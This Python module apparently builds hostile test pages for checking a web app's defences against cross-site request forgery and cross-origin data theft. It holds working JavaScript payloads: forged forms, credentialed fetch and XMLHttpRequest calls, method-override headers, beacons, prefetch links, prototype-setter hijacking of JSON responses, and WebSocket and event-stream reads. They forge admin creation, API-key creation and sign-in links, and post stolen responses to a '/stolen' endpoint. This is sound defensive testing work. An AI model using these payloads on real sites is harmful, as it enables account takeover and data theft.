"""What a page of somebody else can try on whoever is signed in here, as scripts for that page."""

import json
from dataclasses import dataclass

#: Where a form changes something, and what it would have to say. QUESTION, DIGEST and LINK are filled in.
FORMS: dict[str, tuple[str, dict[str, str]]] = {
    "answer": ("/q/QUESTION/answer", {"value": "true", "digest": "DIGEST"}),
    "comment": ("/q/QUESTION/comment", {"text": "Hurry up"}),
    "hand over": ("/q/QUESTION/reassign", {"to": "Noor"}),
    "withdraw": ("/q/QUESTION/withdraw", {"reason": "gone"}),
    "batch": ("/batch", {"id": "QUESTION", "verdict": "approve"}),
    "own settings": ("/settings", {"zone": "Asia/Tokyo"}),
    "new admin": ("/settings/people", {"name": "Mallory", "role": "admin"}),
    "my role": ("/settings/people/p_admin/change", {"name": "Admin", "role": "member"}),
    "link for me": ("/settings/people/p_admin/sign_in_link", {}),
    "new key": ("/settings/agents", {"name": "mallory", "scope": "admin"}),
    "policy": ("/settings/policy", {"do": "save", "text": "[groups]", "version": "1"}),
    "sign out": ("/logout", {"everywhere": "1"}),
    "sign in as me": ("/login", {"link": "LINK"}),
    "sign in over there": ("/login/oidc/callback", {"code": "c", "state": "s"}),
}

_TOOLS = """
const ANSWER = SERVER + "/q/" + QUESTION + "/answer";
const WORDS = new URLSearchParams({ value: "true", digest: DIGEST, token: TOKEN, operation: "evil" });
const steal = (what) => fetch("/stolen", { method: "POST", body: String(what) });
const stealIt = (response) => response.text().then(steal, () => {});
const add = (tag, attributes, into = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  into.append(element);
  return element;
};
const settled = (element) => new Promise((resolve) => { element.onload = element.onerror = resolve; });
const form = (action, fields, attributes = {}) => {
  const made = add("form", { method: "post", action, ...attributes });
  for (const [name, value] of Object.entries(fields)) add("input", { type: "hidden", name, value }, made);
  return made;
};
const framed = async (srcdoc) => {
  const frame = add("iframe", { sandbox: "allow-scripts allow-forms", srcdoc });
  await settled(frame);
  await settled(frame);
};
"""


@dataclass(frozen=True)
class Attack:
    name: str
    script: str
    #: The page itself goes to our server; otherwise it stays and says when it is done.
    leaves: bool = False


#: What is refused before anybody asks who it is.
ABOUT_SIGNING_IN = frozenset({"sign in as me", "sign in over there"})

ATTACKS = (
    Attack(
        "form with a token that somebody made up",
        "form(ANSWER, Object.fromEntries(WORDS)).submit();",
        leaves=True,
    ),
    Attack(
        "form of plain text that reads like ours",
        """form(ANSWER, { ["value=true&digest=" + DIGEST + "&x"]: "" }, { enctype: "text/plain" }).submit();""",
        leaves=True,
    ),
    Attack(
        "form of several parts",
        """form(ANSWER, Object.fromEntries(WORDS), { enctype: "multipart/form-data" }).submit();""",
        leaves=True,
    ),
    Attack(
        "form that names another method",
        """WORDS.set("_method", "POST");
        form(ANSWER + "?_method=POST", Object.fromEntries(WORDS), { method: "get" }).submit();""",
        leaves=True,
    ),
    Attack(
        "form that is sent in a frame",
        """const frame = add("iframe", { name: "hidden" });
        const sent = form(ANSWER, Object.fromEntries(WORDS), { target: "hidden" });
        const later = settled(frame); sent.submit(); await later;""",
    ),
    Attack(
        "form of nobody, from a sandbox",
        """await framed('<form method=post action="' + ANSWER + '"><input name=value value=true></form><script>'
          + 'onload = () => setTimeout(() => document.forms[0].submit())</' + 'script>');""",
    ),
    Attack(
        "form that the browser is told to send without an address",
        """add("meta", { name: "referrer", content: "no-referrer" }, document.head);
        form(ANSWER, Object.fromEntries(WORDS)).submit();""",
        leaves=True,
    ),
    Attack(
        "fetch without asking",
        """for (const [path, options] of [[ANSWER, { method: "POST", body: WORDS }], [SERVER + "/q/" + QUESTION, {}]])
          await fetch(path, { mode: "no-cors", credentials: "include", ...options }).then(stealIt, () => {});""",
    ),
    Attack(
        "fetch with cookies",
        """for (const [path, options] of [
          [ANSWER, { method: "POST", body: WORDS }], [SERVER + "/", {}], [SERVER + "/history.json", {}],
        ]) await fetch(path, { credentials: "include", ...options }).then(stealIt, () => {});""",
    ),
    Attack(
        "fetch that outlives its page",
        """const options = { method: "POST", body: WORDS, keepalive: true, credentials: "include" };
        await fetch(ANSWER, options).then(stealIt, () => {});""",
    ),
    Attack(
        "fetch with the header of our scripts",
        """const headers = { "X-Handraise": "1", "X-HTTP-Method-Override": "POST", "Sec-Fetch-Site": "same-origin" };
        await fetch(ANSWER, { method: "POST", body: WORDS, headers, credentials: "include" }).then(stealIt, () => {});
        await fetch(ANSWER, { headers, credentials: "include" }).then(stealIt, () => {});""",
    ),
    Attack(
        "fetch with other methods",
        """for (const method of ["PUT", "PATCH", "DELETE"])
          await fetch(ANSWER, { method, body: WORDS, credentials: "include" }).then(stealIt, () => {});""",
    ),
    Attack(
        "fetch of the API with cookies",
        """await fetch(SERVER + "/api/questions/" + QUESTION + "/answer", { method: "POST", mode: "no-cors",
          body: JSON.stringify({ response: { value: true } }), credentials: "include" }).catch(() => {});
        await fetch(SERVER + "/api/questions", { credentials: "include" }).then(stealIt, () => {});""",
    ),
    Attack(
        "XMLHttpRequest",
        """await new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.open("POST", ANSWER);
          request.withCredentials = true;
          request.onload = () => steal(request.responseText).then(resolve);
          request.onerror = resolve;
          request.send(WORDS);
        });""",
    ),
    Attack(
        "beacon",
        """navigator.sendBeacon(ANSWER, WORDS);
        await settled(add("img", { src: SERVER + "/docs" }));""",
    ),
    Attack(
        "pictures, scripts, styles and frames of every address that changes something",
        """const kinds = [["img", "src"], ["script", "src"], ["iframe", "src"], ["link", "href"]];
        await Promise.all(Object.values(FORMS).flatMap(([path, fields]) => kinds.map(([tag, name]) => {
          const address = SERVER + path + "?" + new URLSearchParams({ ...fields, _method: "POST" });
          return settled(add(tag, { rel: "stylesheet", [name]: address }));
        })));""",
    ),
    Attack(
        "pages fetched in advance",
        """for (const [path, fields] of Object.values(FORMS)) {
          add("link", { rel: "prefetch", href: SERVER + path + "?" + new URLSearchParams(fields) }, document.head);
          add("link", { rel: "prerender", href: SERVER + path }, document.head);
        }
        await settled(add("img", { src: SERVER + "/docs" }));""",
    ),
    Attack(
        "a link that the victim follows",
        """location.href = ANSWER + "?" + WORDS;""",
        leaves=True,
    ),
    Attack(
        "our data taken for a script",
        """let seen = "";
        for (const name of ["id", "question", "mine", "position"])
          Object.defineProperty(Object.prototype, name, { set(value) { seen += value; }, configurable: true });
        const before = new Set(Object.getOwnPropertyNames(window));
        for (const path of ["/history.json", "/count", "/q/" + QUESTION + "/card", "/live?after=0", "/"])
          await settled(add("script", { src: SERVER + path }));
        await steal(seen + Object.getOwnPropertyNames(window).filter((name) => !before.has(name)));""",
    ),
    Attack(
        "web socket",
        """for (const protocols of [[], ["handraise.bearer.x"]]) await new Promise((resolve) => {
          const socket = new WebSocket(SERVER.replace("http", "ws") + "/api/ws?after=0", protocols);
          socket.onmessage = (event) => steal(event.data);
          socket.onclose = resolve;
        });""",
    ),
    Attack(
        "event stream",
        """await new Promise((resolve) => {
          const source = new EventSource(SERVER + "/live?after=0", { withCredentials: true });
          for (const name of ["hello", "question", "message", "open"])
            source.addEventListener(name, (event) => steal(name + event.data));
          source.onerror = () => { source.close(); resolve(); };
        });""",
    ),
)


def forged(name: str) -> Attack:
    """One of FORMS, sent by itself as soon as the page is there."""
    return Attack(name, f"const [path, fields] = FORMS[{name!r}]; form(SERVER + path, fields).submit();", leaves=True)


def page_of(attack: Attack, server: str, *, question: str, digest: str, link: str, token: str) -> str:
    forms = json.dumps(FORMS)
    for word, value in (("QUESTION", question), ("DIGEST", digest), ("LINK", link)):
        forms = forms.replace(word, value)
    known = {"SERVER": server, "QUESTION": question, "DIGEST": digest, "TOKEN": token}
    names = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in known.items())
    ending = "" if attack.leaves else 'document.title = "done";'
    return f"""<!doctype html><title>evil</title><body><script>
{names}const FORMS = {forms};
{_TOOLS}
(async () => {{
try {{ {attack.script} }} catch (failure) {{ document.title = "broken: " + failure; throw failure; }}
{ending}
}})();
</script>"""
